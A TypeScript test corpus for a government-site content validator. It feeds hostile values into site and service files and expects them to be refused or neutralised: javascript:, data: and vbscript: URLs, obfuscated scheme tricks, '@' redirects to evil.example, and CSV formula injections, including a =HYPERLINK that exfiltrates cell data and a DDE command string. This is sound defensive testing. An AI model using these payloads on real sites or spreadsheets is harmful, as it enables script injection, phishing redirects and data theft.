// Bad-content corpus, URLs: addresses that would publish a script or mislead a reader as a link
// (on every page, for the site's own), and text that would attack a spreadsheet user through the
// open-data CSV. URL fields are the one url() type (src/schemas/fields.ts, tested in
// src/schemas/url.test.ts); CSV cells are neutralised by toCsv (src/lib/export/export.test.ts).
import type { CorpusCase } from './case.ts';
import { replace } from '../test-tree.ts';

const SITE = 'content/site.yaml';
const SUBJECT = 'content/enforcement/subjects/11990100MB1234567F.yaml';
const SERVICE = 'content/services/S-001.md';
const POWER = 'content/powers/P-001.yaml';

/** The subject's 行政复议 block with a 网上申请地址. */
const reviewUrl = (value: string) => ({ [SUBJECT]: replace('    timeLimit: 自知道该行政行为之日起六十日内\n', `    timeLimit: 自知道该行政行为之日起六十日内\n    url: ${value}\n`) });
/** The service guide's 网办地址. */
const onlineUrl = (value: string) => ({ [SERVICE]: replace('visits: 1\n', `visits: 1\nonlineUrl: ${value}\n`) });

export const cases: CorpusCase[] = [
  {
    name: 'site.yaml 网站地址 is a javascript: address',
    edits: { [SITE]: replace('siteUrl: https://test.example.gov.cn', 'siteUrl: javascript:alert(document.cookie)') },
    refused: [
      'content/site.yaml:25 网站地址（siteUrl） — 值“javascript:alert(document.cookie)”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml 网站地址 in upper case JAVASCRIPT:',
    edits: { [SITE]: replace('siteUrl: https://test.example.gov.cn', 'siteUrl: JAVASCRIPT:alert(1)') },
    refused: [
      'content/site.yaml:25 网站地址（siteUrl） — 值“JAVASCRIPT:alert(1)”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml 我为政府网站找错 is a data: address',
    edits: { [SITE]: replace('errorReportUrl: https://example.gov.cn/error', 'errorReportUrl: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==') },
    refused: [
      'content/site.yaml:26 我为政府网站找错（errorReportUrl） — 值“data:text/html;base64,PHNjcmlwdD5hbGVydC…”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml 我为政府网站找错 hides javascript: behind a leading space',
    edits: { [SITE]: replace('errorReportUrl: https://example.gov.cn/error', 'errorReportUrl: " javascript:alert(1)"') },
    refused: [
      'content/site.yaml:26 我为政府网站找错（errorReportUrl） — 值“ javascript:alert(1)”不符合要求 (期望 不含空格或不可见字符（第 1 个字符是 U+0020）、以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml 党政机关网站标识 is protocol-relative //host',
    edits: { [SITE]: replace(/conacUrl: .*\n/, 'conacUrl: //evil.example/conac\n') },
    refused: [
      'content/site.yaml:27 党政机关网站标识（conacUrl） — 值“//evil.example/conac”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml editor platform address split by a tab (java\\tscript:)',
    edits: { [SITE]: (text) => `${text}cms:\n  backend: gitea\n  repo: office/site\n  branch: main\n  baseUrl: "java\\tscript:alert(1)"\n` },
    refused: [
      'content/site.yaml:33 网页编辑器.平台地址（cms.baseUrl） — 值“java⟨U+0009⟩script:alert(1)”不符合要求 (期望 不含空格或不可见字符（第 5 个字符是 U+0009）、以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'site.yaml 网站地址 breaks out of the attribute',
    edits: { [SITE]: replace('siteUrl: https://test.example.gov.cn', `siteUrl: 'https://test.example.gov.cn/"><script>alert(1)</script>'`) },
    refused: [
      'content/site.yaml:25 网站地址（siteUrl） — 值“https://test.example.gov.cn/"><script>al…”不符合要求 (期望 以 http:// 或 https:// 开头的网址，不含引号、尖括号、反斜杠等字符)',
    ],
  },
  {
    name: 'subject 网上申请地址 is a vbscript: address',
    edits: reviewUrl('vbscript:msgbox(1)'),
    refused: [
      'content/enforcement/subjects/11990100MB1234567F.yaml:19 救济渠道.行政复议.网上申请地址（remedies.review.url） — 值“vbscript:msgbox(1)”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'subject 网上申请地址 leads elsewhere through "gov.cn@host"',
    edits: reviewUrl('https://test.example.gov.cn@evil.example/apply'),
    refused: [
      'content/enforcement/subjects/11990100MB1234567F.yaml:19 救济渠道.行政复议.网上申请地址（remedies.review.url） — 值“https://test.example.gov.cn@evil.example…”不符合要求 (期望 以 http:// 或 https:// 开头的网址，域名前不能有“用户名@”)',
    ],
  },
  {
    name: 'subject 网上申请地址 with backslashes (https:\\\\host)',
    edits: reviewUrl('"https:\\\\\\\\evil.example/"'),
    refused: [
      'content/enforcement/subjects/11990100MB1234567F.yaml:19 救济渠道.行政复议.网上申请地址（remedies.review.url） — 值“https:\\\\evil.example/”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'service 网办地址 is a file: address',
    edits: onlineUrl('file:///etc/passwd'),
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“file:///etc/passwd”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'service 网办地址 entity-encoded javascript:',
    edits: onlineUrl('"&#106;avascript:alert(1)"'),
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“&#106;avascript:alert(1)”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'service 网办地址 with a zero-width space',
    edits: onlineUrl('"https://zwfw.example.gov.cn\\u200b/item"'),
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“https://zwfw.example.gov.cn⟨U+200B⟩/item”不符合要求 (期望 不含空格或不可见字符（第 28 个字符是 U+200B）、以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'service 网办地址 missing its scheme, for a guide done wholly online',
    edits: { [SERVICE]: replace('visits: 1\n', 'visits: 0\nonlineUrl: zwfw.example.gov.cn/item\n') },
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“zwfw.example.gov.cn/item”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'service 网办地址 is a mailto: address (not a web address)',
    edits: onlineUrl('mailto:office@example.gov.cn'),
    refused: [
      'content/services/S-001.md:32 网办地址（onlineUrl） — 值“mailto:office@example.gov.cn”不符合要求 (期望 以 http:// 或 https:// 开头的网址)',
    ],
  },
  {
    name: 'a =HYPERLINK formula as a service guide condition',
    edits: { [SERVICE]: replace('  - 符合条件\n', `  - '=HYPERLINK("https://evil.example/?d="&A1,"点此办理")'\n`) },
    acceptedBecause: 'text is text: the CSV export prefixes it with \' (src/lib/export/export.test.ts, "CSV cells a spreadsheet could run"), the JSON keeps it raw, pages escape it',
  },
  {
    name: 'an @SUM and a -1+1 in a power’s name and a subject’s duties',
    edits: { [POWER]: replace(/^name: .*$/m, "name: '@SUM(1+9)*cmd|'' /C calc''!A0'"), [SUBJECT]: replace('  - 人民防空监督管理\n', "  - '-1+1'\n") },
    acceptedBecause: 'the CSV export prefixes both with \' (src/lib/export/export.test.ts, "CSV cells a spreadsheet could run")',
  },
  {
    name: 'a full-width ＝ formula after spaces in a service guide condition',
    edits: { [SERVICE]: replace('  - 符合条件\n', "  - '  ＝HYPERLINK(\"https://evil.example\")'\n") },
    acceptedBecause: 'the CSV export prefixes cells whose first character after spaces is =, ＝ and the like (src/lib/export/export.test.ts)',
  },
  {
    name: 'a javascript: link in a service guide’s Markdown body',
    edits: { [SERVICE]: (text) => `${text}\n[在线办理](javascript:alert(1)) 或 <a href="java&#x09;script:alert(2)">这里</a>\n` },
    acceptedBecause: 'the Markdown sanitiser drops the address and keeps the words (src/markdown/link-schemes.test.ts)',
  },
];
